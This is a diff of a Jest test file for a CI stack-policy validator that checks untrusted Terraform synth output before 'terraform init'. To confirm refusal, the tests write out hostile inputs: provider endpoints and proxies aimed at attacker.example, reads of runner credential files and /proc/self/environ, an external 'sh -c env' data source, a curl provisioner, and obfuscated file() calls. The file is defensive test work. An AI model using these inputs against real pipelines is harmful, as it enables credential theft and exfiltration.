@@ -1,74 +1,309 @@
-import { readFileSync, writeFileSync } from "node:fs";
+/**
+ * The stack policy is the allow-list a pull request's synthesized Terraform passes before the
+ * plan job runs `terraform init` on it with the plan role. Each test below is an attack from
+ * the review (issue 14, attack 2) or a pin that keeps the allow-list equal to what the
+ * project's own stacks use.
+ */
+import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { stackPolicyViolations } from "../../pipeline/lib/stack-policy";
+import { ALLOWED_FUNCTIONS, ALLOWED_PROVIDER_ARGUMENTS, stackPolicyViolations } from "../../pipeline/lib/stack-policy";
+import { expressionUse } from "../../pipeline/lib/terraform-expressions";
 import { planStacks } from "../../pipeline/plan-stacks";
+import { readPlans } from "../../pipeline/lib/plan";
+import { renderComment } from "../../pipeline/plan-comment";
 import type { Exec } from "../../pipeline/lib/exec";
 import { synthesize } from "../support/synth";
 import { writeSynth } from "./synth-helper";
-import { mkdtempSync } from "node:fs";
-import { tmpdir } from "node:os";
 
 const real = synthesize();
-const aStack = () => JSON.parse(real.texts["tenant-acme"]);
+const environments = real.config.environments;
+const TENANT = "tenant-acme"; // production, us-east-1
+const PLATFORM = "platform-production-us-east-1";
+const aStack = (name = TENANT) => JSON.parse(real.texts[name]);
+const violations = (stack: Record<string, any>, name = TENANT) => stackPolicyViolations(name, stack, environments);
+const firstTagKey = (stack: Record<string, any>) => stack.provider.aws[0].default_tags[0].tags;
 
-describe("stack policy (checked before terraform init of untrusted synth output)", () => {
-  it.each(Object.keys(real.stacks))("lets the app's own stack %s through", (name) => {
-    expect(stackPolicyViolations(real.stacks[name])).toEqual([]);
+describe("stack policy: the project's own stacks", () => {
+  it.each(Object.keys(real.stacks))("lets the synthesized stack %s through", (name) => {
+    expect(stackPolicyViolations(name, real.stacks[name], environments)).toEqual([]);
   });
 
+  it("allows exactly the provider arguments the synthesized stacks use (StackSettings)", () => {
+    const used = new Set(Object.values(real.stacks).flatMap((s) => s.provider.aws.flatMap((p: object) => Object.keys(p))));
+    expect([...ALLOWED_PROVIDER_ARGUMENTS].sort()).toEqual([...used].sort());
+  });
+
+  it("allows every function the synthesized stacks call, and none that reads files, paths or the environment", () => {
+    const used = new Set(Object.values(real.texts).flatMap((t) => [...t.matchAll(/"((?:[^"\\]|\\.)*)"/g)].flatMap((m) => expressionUse(JSON.parse(`"${m[1]}"`)).functions)));
+    expect([...used].filter((f) => !ALLOWED_FUNCTIONS.has(f))).toEqual([]);
+    // jsonencode/jsondecode are the JSON policy and platform-contract functions cdktf's Fn emits.
+    expect([...ALLOWED_FUNCTIONS].sort()).toEqual(["element", "join", "jsondecode", "jsonencode", "matchkeys", "split", "tolist"]);
+  });
+});
+
+describe("stack policy: providers", () => {
   it("refuses a provider other than hashicorp/aws", () => {
     const stack = aStack();
     stack.terraform.required_providers.evil = { source: "attacker/evil", version: "1.0.0" };
-    expect(stackPolicyViolations(stack)).toEqual(['provider "evil" (source "attacker/evil") is not allowed: only hashicorp/aws']);
+    expect(violations(stack)).toEqual(['provider "evil" (source "attacker/evil") is not allowed: only hashicorp/aws']);
   });
 
   it("refuses the aws name bound to another source", () => {
     const stack = aStack();
     stack.terraform.required_providers.aws.source = "attacker/aws";
-    expect(stackPolicyViolations(stack)).toEqual(['provider "aws" (source "attacker/aws") is not allowed: only hashicorp/aws']);
+    expect(violations(stack)).toEqual(['provider "aws" (source "attacker/aws") is not allowed: only hashicorp/aws']);
   });
 
-  it("refuses modules, external programs and non-AWS resources", () => {
+  // Each of these sends the plan role's signed requests elsewhere, trusts another CA, reads
+  // credentials or config files from the runner, or switches identity.
+  it.each([
+    ["endpoints", [{ sts: "https://attacker.example", s3: "https://attacker.example" }]],
+    ["https_proxy", "http://attacker.example:3128"],
+    ["http_proxy", "http://attacker.example:3128"],
+    ["insecure", true],
+    ["custom_ca_bundle", "/tmp/ca.pem"],
+    ["shared_config_files", ["/proc/self/environ"]],
+    ["shared_credentials_files", ["/home/runner/.aws/credentials"]],
+    ["profile", "other"],
+    ["access_key", "AKIAEXAMPLE"],
+    ["assume_role", [{ role_arn: "arn:aws:iam::999999999999:role/x" }]],
+    ["assume_role_with_web_identity", [{ role_arn: "arn:aws:iam::999999999999:role/x", web_identity_token_file: "/tmp/t" }]],
+    ["sts_region", "us-west-2"],
+    ["skip_credentials_validation", true],
+    ["alias", "other"],
+  ])("refuses the provider argument %s", (arg, value) => {
     const stack = aStack();
-    stack.module = { m: { source: "git::https://example.com/m.git" } };
-    stack.data.external = { run: { program: ["sh", "-c", "env"] } };
+    stack.provider.aws[0][arg] = value;
+    expect(violations(stack)).toEqual([`provider aws: argument ${arg} is not allowed (allowed: region, allowed_account_ids, default_tags)`]);
+  });
+
+  it("refuses a second provider block and another account", () => {
+    const stack = aStack();
+    stack.provider.aws.push({ region: "us-east-1" });
+    expect(violations(stack)).toContain("provider aws: exactly one provider block is allowed");
+    const other = aStack();
+    other.provider.aws[0].allowed_account_ids = ["999999999999"];
+    expect(violations(other)).toEqual(['provider aws: allowed_account_ids must be ["111111111111"], got ["999999999999"]']);
+  });
+
+  it("refuses a tenant in an environment or region base's cdktf.json does not declare", () => {
+    const stack = aStack();
+    firstTagKey(stack).Environment = "attacker";
+    expect(violations(stack)).toEqual(['provider aws: default_tags Environment must be an environment of base\'s cdktf.json (production, staging), got "attacker"']);
+    const region = aStack();
+    region.provider.aws[0].region = "eu-west-1";
+    expect(violations(region)).toEqual(['provider aws: region must be one of environment production\'s regions (us-east-1, us-west-2), got "eu-west-1"']);
+  });
+});
+
+describe("stack policy: backend", () => {
+  const expectedBackend = () => aStack().terraform.backend;
+
+  it.each([
+    ["bucket", "attacker-bucket"],
+    ["key", "tenants/globex.tfstate"], // another tenant's state object
+    ["key", "platform/production/us-east-1.tfstate"],
+    ["region", "eu-west-1"],
+    ["kms_key_id", "arn:aws:kms:us-east-1:999999999999:key/x"],
+    ["dynamodb_table", "other"],
+    ["encrypt", false],
+    ["use_lockfile", false],
+    ["endpoint", "https://attacker.example"],
+    ["role_arn", "arn:aws:iam::111111111111:role/other"],
+  ])("refuses the backend with %s = %j", (arg, value) => {
+    const stack = aStack();
+    stack.terraform.backend.s3[arg] = value;
+    const [problem, ...rest] = violations(stack);
+    expect(rest).toEqual([]);
+    expect(problem).toMatch(/^terraform\.backend must be \{"s3":\{.*\}\} \(base's cdktf\.json for tenant-acme\), got /);
+    expect(problem).toContain(JSON.stringify(value));
+  });
+
+  it("refuses a platform stack's backend pointing at a tenant's state, and another backend type", () => {
+    const stack = aStack(PLATFORM);
+    stack.terraform.backend.s3.key = "tenants/acme.tfstate";
+    expect(violations(stack, PLATFORM)).toHaveLength(1);
+    const http = aStack();
+    http.terraform.backend = { http: { address: "https://attacker.example" } };
+    expect(violations(http)).toEqual([expect.stringContaining('got {"http":{"address":"https://attacker.example"}}')]);
+    expect(JSON.stringify(expectedBackend())).toContain('"key":"tenants/acme.tfstate"');
+  });
+
+  it("refuses a stack name that is neither a platform of base's cdktf.json nor a tenant", () => {
+    expect(violations(aStack(), "platform-production-eu-west-1")).toContain("stack name platform-production-eu-west-1 is neither platform-<env>-<region> of base's cdktf.json nor tenant-<id>");
+  });
+});
+
+describe("stack policy: blocks", () => {
+  it.each(["output", "module", "check", "import", "moved", "removed", "locals", "variable", "ephemeral"])("refuses a top-level %s block", (block) => {
+    const stack = aStack();
+    stack[block] = { x: { value: "1" } };
+    expect(violations(stack)).toEqual([`top-level "${block}" blocks are not allowed (only terraform, provider, resource and data)`]);
+  });
+
+  it("refuses terraform settings other than providers, version and backend", () => {
+    const stack = aStack();
+    stack.terraform.cloud = { organization: "attacker" };
+    expect(violations(stack)).toEqual(["terraform.cloud is not allowed (only required_providers, required_version and backend)"]);
+  });
+
+  it("refuses non-AWS resources, provisioners and connections", () => {
+    const stack = aStack();
     stack.resource.terraform_data = { x: {} };
-    expect(stackPolicyViolations(stack)).toEqual([
-      'top-level "module" blocks are not allowed (modules, checks and imports stay out of plans)',
+    const [name] = Object.keys(stack.resource.aws_s3_bucket);
+    stack.resource.aws_s3_bucket[name].provisioner = [{ "local-exec": { command: "curl ..." } }];
+    stack.resource.aws_s3_bucket[name].connection = [{ host: "attacker.example" }];
+    expect(violations(stack).sort()).toEqual([
+      `aws_s3_bucket.${name} has a connection block`,
+      `aws_s3_bucket.${name} has a provisioner block`,
       "resource type terraform_data is not allowed: only aws_* types",
-      "data source type external is not allowed: only aws_* types",
+    ]);
+  });
+});
+
+describe("stack policy: data sources", () => {
+  it.each([
+    ["external", { program: ["sh", "-c", "env"] }],
+    ["terraform_remote_state", { backend: "s3", config: { bucket: "example-openclaw-tfstate-production", key: "tenants/globex.tfstate" } }],
+    ["aws_s3_object", { bucket: "openclaw-globex-data", key: "export.json" }],
+    ["aws_secretsmanager_secret_version", { secret_id: "/openclaw/production/globex/slack" }],
+    ["http", { url: "https://attacker.example" }],
+  ])("refuses a %s data source", (type, config) => {
+    const stack = aStack();
+    stack.data[type] = { x: config };
+    expect(violations(stack)).toEqual([`data source type ${type} is not allowed (allowed: aws_availability_zones, aws_vpc_endpoint_service, aws_ssm_parameter)`]);
+  });
+
+  it.each([
+    ["another region's platform", "/openclaw/production/us-west-2/platform/vpc-id"],
+    ["another environment's platform", "/openclaw/staging/us-east-1/platform/vpc-id"],
+    ["a tenant secret path", "/openclaw/production/globex/slack"],
+    ["a path escaping the prefix", "/openclaw/production/us-east-1/platform/../../globex/x"],
+    ["a name built by an expression", "/openclaw/production/us-east-1/platform/${aws_s3_bucket.x.id}"],
+  ])("refuses an SSM parameter outside the stack's platform contract prefix: %s", (_what, name) => {
+    const stack = aStack();
+    stack.data.aws_ssm_parameter.evil = { name };
+    expect(violations(stack)).toContainEqual(
+      `data source aws_ssm_parameter.evil: name must be a literal under /openclaw/production/us-east-1/platform/ (got ${JSON.stringify(name)})`,
+    );
+  });
+
+  it("allows an AWS endpoint service of the stack's own region by literal name only", () => {
+    const platform = aStack(PLATFORM);
+    platform.data.aws_vpc_endpoint_service = { ok: { service_name: "com.amazonaws.us-east-1.ecr.api", service_type: "Interface" } };
+    expect(violations(platform, PLATFORM)).toEqual([]);
+    platform.data.aws_vpc_endpoint_service = {
+      region: { service_name: "com.amazonaws.us-west-2.ecr.api" },
+      partner: { service_name: "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0", filter: [{ name: "owner", values: ["x"] }] },
+    };
+    expect(violations(platform, PLATFORM)).toEqual([
+      'data source aws_vpc_endpoint_service.region: service_name must be a literal com.amazonaws.us-east-1.<service> (got "com.amazonaws.us-west-2.ecr.api")',
+      "data source aws_vpc_endpoint_service.partner: only service_name and service_type are allowed (got filter)",
+      'data source aws_vpc_endpoint_service.partner: service_name must be a literal com.amazonaws.us-east-1.<service> (got "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0")',
     ]);
   });
 
-  it("refuses provisioners on AWS resources", () => {
+  it("refuses an SSM parameter read with decryption", () => {
     const stack = aStack();
-    const [name] = Object.keys(stack.resource.aws_s3_bucket);
-    stack.resource.aws_s3_bucket[name].provisioner = [{ "local-exec": { command: "curl ..." } }];
-    expect(stackPolicyViolations(stack)).toEqual([`aws_s3_bucket.${name} has a provisioner block`]);
+    const [first] = Object.keys(stack.data.aws_ssm_parameter);
+    stack.data.aws_ssm_parameter[first].with_decryption = true;
+    expect(violations(stack)).toEqual([`data source aws_ssm_parameter.${first}: with_decryption must be false or absent (got true)`]);
+  });
+});
+
+describe("stack policy: expressions", () => {
+  const withTag = (value: string, key = "Leak") => {
+    const stack = aStack();
+    firstTagKey(stack)[key] = value;
+    return violations(stack);
+  };
+  const allowed = "(allowed: join, element, split, jsonencode, jsondecode, matchkeys, tolist)";
+
+  it("refuses file() reading the runner's environment into a tag the plan comment would show", () => {
+    expect(withTag('${file("/proc/self/environ")}')).toEqual([`provider.aws[0].default_tags[0].tags.Leak: function file() is not allowed ${allowed}`]);
   });
 
-  it("refuses a backend other than s3", () => {
-    const stack = aStack();
-    stack.terraform.backend = { http: { address: "https://example.com" } };
-    expect(stackPolicyViolations(stack)).toEqual(["backend must be s3, got http"]);
+  it.each(["templatefile", "filebase64", "filesha256", "fileset", "fileexists", "pathexpand", "abspath"])("refuses %s()", (fn) => {
+    expect(withTag(`\${${fn}("/etc/passwd")}`)).toEqual([`provider.aws[0].default_tags[0].tags.Leak: function ${fn}() is not allowed ${allowed}`]);
   });
 
-  it("keeps a refused stack away from terraform entirely and says why in error.txt", async () => {
+  it("finds calls hidden in nested strings, directives, object keys, whitespace and provider functions", () => {
+    expect(withTag('${join(",", ["a", "${file("/x")}"])}')).toEqual([expect.stringContaining("function file() is not allowed")]);
+    expect(withTag('%{ if fileexists("/x") }yes%{ endif }')).toEqual([expect.stringContaining("function fileexists() is not allowed")]);
+    expect(withTag("x", '${file("/x")}')).toEqual([expect.stringContaining("function file() is not allowed")]);
+    expect(withTag('${file ("/x")}')).toEqual([expect.stringContaining("function file() is not allowed")]);
+    expect(withTag('${provider::aws::arn_parse("arn:aws:s3:::x")}')).toEqual([expect.stringContaining("function provider::aws::arn_parse() is not allowed")]);
+    expect(withTag('${"\\"}${file("/x")}"}')).toEqual([expect.stringContaining("function file() is not allowed")]);
+    expect(withTag('${1-file("/x")}')).toEqual([expect.stringContaining("function file() is not allowed")]);
+    expect(withTag('${2 -file("/x")}')).toEqual([expect.stringContaining("function file() is not allowed")]);
+    expect(withTag('${~ file("/x") ~}')).toEqual([expect.stringContaining("function file() is not allowed")]);
+    expect(withTag('${core::file("/x")}')).toEqual([expect.stringContaining("function core::file() is not allowed")]);
+  });
+
+  it("refuses path.*, terraform.*, var.* and local.* references", () => {
+    expect(withTag("${path.cwd}")).toEqual(["provider.aws[0].default_tags[0].tags.Leak: reference path.* is not allowed (only this stack's aws_* resources and data sources)"]);
+    expect(withTag("${terraform.workspace}")).toEqual([expect.stringContaining("reference terraform.* is not allowed")]);
+    expect(withTag("${var.x}-${local.y}")).toEqual([expect.stringContaining("reference var.*"), expect.stringContaining("reference local.*")]);
+  });
+
+  it("leaves escaped templates ($${, %%{) and plain text alone, and refuses an unterminated one", () => {
+    expect(withTag('$${file("/x")} and %%{ if file("/x") } 50% {braces}')).toEqual([]);
+    expect(withTag('${join(",", ["a"]')).toEqual(["provider.aws[0].default_tags[0].tags.Leak: unterminated template expression"]);
+  });
+});
+
+describe("plan-stacks with untrusted synth output", () => {
+  beforeEach(() => jest.spyOn(process.stderr, "write").mockImplementation(() => true));
+  afterEach(() => jest.restoreAllMocks());
+
+  const run = async (edit: (stackDir: string) => void) => {
     const synthDir = writeSynth(mkdtempSync(join(tmpdir(), "policy-")), [{ name: "tenant-evil", environment: "production" }]);
-    const file = join(synthDir, "stacks", "tenant-evil", "cdk.tf.json");
-    const stack = JSON.parse(readFileSync(file, "utf8"));
-    stack.terraform.required_providers = { ...stack.terraform.required_providers, evil: { source: "attacker/evil" } };
-    writeFileSync(file, JSON.stringify(stack));
-    const calls: string[][] = [];
-    const exec: Exec = async (_cmd, args) => {
-      calls.push([...args]);
-      return { code: 0, stdout: "", stderr: "" };
+    edit(join(synthDir, "stacks", "tenant-evil"));
+    const calls: { args: string[]; files: string[] }[] = [];
+    const exec: Exec = async (_cmd, args, options) => {
+      calls.push({ args: [...args], files: readdirSync(options.cwd!).sort() });
+      if (args[0] === "plan") writeFileSync(args.find((a) => a.startsWith("-out="))!.slice(5), "{}");
+      return { code: 0, stdout: args[0] === "show" && args.includes("-json") ? '{"resource_changes":[]}' : "", stderr: "" };
     };
     const outDir = mkdtempSync(join(tmpdir(), "policy-out-"));
-    jest.spyOn(process.stderr, "write").mockImplementation(() => true);
-    const [result] = await planStacks({ synthDir, stacks: ["tenant-evil"], outDir, parallelism: 1, detailedExitcode: false, lock: false, terraform: "terraform", exec });
-    expect(result.status).toBe("failed");
+    const [result] = await planStacks({ synthDir, environments, stacks: ["tenant-evil"], outDir, parallelism: 1, detailedExitcode: false, lock: false, terraform: "terraform", exec });
+    return { result, calls, outDir };
+  };
+
+  it("gives terraform a fresh directory holding only cdk.tf.json: an extra zz.tf.json with data \"external\" never reaches it", async () => {
+    const { result, calls } = await run((dir) => {
+      writeFileSync(join(dir, "zz.tf.json"), JSON.stringify({ data: { external: { x: { program: ["sh", "-c", "env"] } } } }));
+      writeFileSync(join(dir, "evil.tf"), 'data "external" "x" { program = ["sh"] }');
+    });
+    expect(result.status).toBe("planned");
+    expect(calls.map((c) => c.args[0])).toEqual(["init", "plan", "show", "show"]);
+    expect(calls[0].files).toEqual(["cdk.tf.json"]);
+  });
+
+  it("keeps a refused stack away from terraform entirely and lists one reason per line in error.txt", async () => {
+    const { result, calls, outDir } = await run((dir) => {
+      const file = join(dir, "cdk.tf.json");
+      const stack = JSON.parse(readFileSync(file, "utf8"));
+      stack.provider.aws[0].endpoints = [{ sts: "https://attacker.example" }];
+      stack.output = { leak: { value: '${file("/proc/self/environ")}' } };
+      writeFileSync(file, JSON.stringify(stack));
+    });
+    expect(result.status).toBe("refused");
     expect(calls).toEqual([]);
-    expect(readFileSync(join(outDir, "tenant-evil", "error.txt"), "utf8")).toContain('provider "evil" (source "attacker/evil") is not allowed');
+    expect(readFileSync(join(outDir, "tenant-evil", "error.txt"), "utf8")).toBe(
+      [
+        "refused by the stack policy, not planned:",
+        '- top-level "output" blocks are not allowed (only terraform, provider, resource and data)',
+        "- provider aws: argument endpoints is not allowed (allowed: region, allowed_account_ids, default_tags)",
+        "- output.leak.value: function file() is not allowed (allowed: join, element, split, jsonencode, jsondecode, matchkeys, tolist)",
+        "",
+      ].join("\n"),
+    );
+    // ... and the comment shows it as refused, not as an ordinary failure.
+    const comment = renderComment(readPlans(outDir));
+    expect(comment).toContain("1 refused");
+    expect(comment).toContain("| `tenant-evil` | – | – | – | – | ⛔ refused by the stack policy |");
+    expect(comment).toContain("**Refused by the stack policy (not planned):** `tenant-evil`");
   });
 });
